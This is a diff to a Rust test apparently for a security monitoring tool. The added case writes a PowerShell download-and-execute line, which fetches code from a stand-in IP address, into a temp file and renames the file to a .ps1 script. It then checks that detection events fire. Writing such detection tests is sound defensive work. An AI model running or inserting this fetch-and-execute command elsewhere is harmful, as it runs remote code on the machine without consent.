@@ -170,6 +170,13 @@ fn a_file_that_becomes_a_script_by_a_rename_is_told() {
     let id = talk.open(r"temp\a.tmp", 1);
     talk.exchange(command::SET_INFO, &set_info(id, 10, &rename(r"temp\check.ps1")), OK, &[2, 0]);
     assert_eq!(told(&replayed(&talk.script)), [WRITTEN]);
+    // Another name for it, and one whose content says what it is.
+    let mut talk = on(ADMIN);
+    let loader = b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
+    talk.put(r"temp\a.tmp", loader, 128);
+    let id = talk.open(r"temp\a.tmp", 1);
+    talk.exchange(command::SET_INFO, &set_info(id, 11, &rename(r"temp\check.ps1")), OK, &[2, 0]);
+    assert_eq!(told(&replayed(&talk.script)), [(9_403_003, 1, Outcome::Success), (9_404_001, 1, Outcome::Success)]);
     // One that was there already, and one that was refused.
     let mut talk = on(ADMIN);
     let id = talk.open(r"temp\old.tmp", 1);
